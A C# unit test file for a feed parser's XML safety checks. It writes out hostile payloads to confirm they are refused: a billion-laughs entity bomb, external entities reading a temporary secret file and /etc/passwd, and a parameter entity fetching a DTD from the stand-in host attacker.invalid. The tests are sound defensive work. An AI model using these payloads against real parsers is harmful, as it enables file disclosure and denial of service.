using System.Text;
using Parallax.Extraction.Feeds;

namespace Parallax.Extraction.Tests.Feeds;

public sealed class FeedSafetyTests
{
    [Fact]
    public void Billion_laughs_is_refused_without_expanding()
    {
        const string Bomb = """
            <?xml version="1.0"?>
            <!DOCTYPE rss [
              <!ENTITY lol "lol">
              <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
              <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
              <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
              <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
              <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
              <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
              <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
              <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
              <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
            ]>
            <rss version="2.0"><channel><title>&lol9;</title></channel></rss>
            """;

        var problem = FeedXml.Problem(Bomb, "bomb.xml");

        Assert.Contains("DTD", problem, StringComparison.Ordinal);
        Assert.DoesNotContain("lollol", problem, StringComparison.Ordinal);
    }

    [Fact]
    public void External_entity_is_never_read()
    {
        var secretFile = Path.Combine(Path.GetTempPath(), "parallax-feed-secret-" + Guid.NewGuid().ToString("N") + ".txt");
        File.WriteAllText(secretFile, "TOP-SECRET-MARKER");
        try
        {
            var uri = new Uri(secretFile).AbsoluteUri;
            foreach (var target in new[] { uri, "file:///etc/passwd" })
            {
                var xml = $"""
                    <?xml version="1.0"?>
                    <!DOCTYPE rss [ <!ENTITY xxe SYSTEM "{target}"> ]>
                    <rss version="2.0"><channel><title>&xxe;</title><item><title>&xxe;</title></item></channel></rss>
                    """;

                var problem = FeedXml.Problem(xml, "xxe.xml");

                Assert.Contains("DTD", problem, StringComparison.Ordinal);
                Assert.DoesNotContain("TOP-SECRET-MARKER", problem, StringComparison.Ordinal);
                Assert.DoesNotContain("root:", problem, StringComparison.Ordinal);
            }
        }
        finally
        {
            File.Delete(secretFile);
        }
    }

    [Fact]
    public void Parameter_entity_pointing_outside_is_refused()
    {
        const string Xml = """
            <?xml version="1.0"?>
            <!DOCTYPE feed [ <!ENTITY % remote SYSTEM "http://attacker.invalid/evil.dtd"> %remote; ]>
            <feed xmlns="http://www.w3.org/2005/Atom"><title>t</title></feed>
            """;

        Assert.Contains("DTD", FeedXml.Problem(Xml), StringComparison.Ordinal);
    }

    [Fact]
    public void Any_dtd_is_refused_with_a_clear_problem()
    {
        const string Xml = """
            <?xml version="1.0"?>
            <!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN" "http://my.netscape.com/publish/formats/rss-0.91.dtd">
            <rss version="0.91"><channel><title>Old</title></channel></rss>
            """;

        var problem = FeedXml.Problem(Xml, "old.rss");

        Assert.Equal("old.rss: refused: the document has a DTD (<!DOCTYPE ...>); DTDs and entity declarations are not processed, for security", problem);
    }

    [Fact]
    public void Undeclared_entity_without_a_dtd_is_malformed_xml()
    {
        var problem = FeedXml.Problem("<rss version=\"2.0\">\n<channel><title>&xxe;</title></channel></rss>");

        Assert.Contains("malformed XML at line 2", problem, StringComparison.Ordinal);
    }

    [Fact]
    public void Truncated_xml_names_the_source_line_and_position()
    {
        var whole = FeedXml.RssWithItem("<title>Cut</title><description>Half a sentence");
        var problem = FeedXml.Problem(whole[..^30], "cut.xml");

        Assert.StartsWith("cut.xml: malformed XML at line 1, position ", problem, StringComparison.Ordinal);
    }

    [Fact]
    public void Html_page_is_not_a_feed()
    {
        var problem = FeedXml.Problem("<!DOCTYPE html>\n<html><head><title>Home</title></head><body><p>Hi</body></html>", "page.html");

        Assert.Contains("not a feed", problem, StringComparison.Ordinal);
        Assert.Contains("HTML", problem, StringComparison.Ordinal);
    }

    [Fact]
    public void Other_xml_is_not_a_feed()
    {
        var problem = FeedXml.Problem("""<html xmlns="http://www.w3.org/1999/xhtml"><body><p>Hi</p></body></html>""", "page.xhtml");

        Assert.Equal("page.xhtml: not a feed: the root element is <html>, not RSS <rss>, RSS 1.0 <rdf:RDF> or Atom <feed>", problem);
    }

    [Fact]
    public void Empty_input_is_a_problem()
    {
        Assert.Contains("malformed XML", FeedXml.Problem("", "empty.xml"), StringComparison.Ordinal);
        Assert.Contains("malformed XML", FeedXml.Problem("   \n ", "blank.xml"), StringComparison.Ordinal);
    }

    [Fact]
    public void Content_after_the_root_is_malformed()
    {
        Assert.Contains("malformed XML", FeedXml.Problem("<rss version=\"2.0\"><channel/></rss><rss/>"), StringComparison.Ordinal);
    }

    [Fact]
    public void Hostile_nesting_depth_is_refused()
    {
        var depth = 5000;
        var xml = "<rss version=\"2.0\"><channel><item><description>" + string.Concat(Enumerable.Repeat("<x>", depth))
            + string.Concat(Enumerable.Repeat("</x>", depth)) + "</description></item></channel></rss>";

        Assert.Contains("deeper than", FeedXml.Problem(xml), StringComparison.Ordinal);
    }

    [Fact]
    public void Document_over_the_size_cap_is_refused()
    {
        var padding = new string(' ', (int)FeedParser.MaxCharactersInDocument);
        var xml = "<rss version=\"2.0\"><channel><title>big</title>" + padding + "</channel></rss>";

        var result = FeedParser.Parse(new MemoryStream(Encoding.UTF8.GetBytes(xml)), "big.xml");

        Assert.Null(result.Feed);
        Assert.StartsWith("big.xml: too large", result.Problem, StringComparison.Ordinal);
    }
}
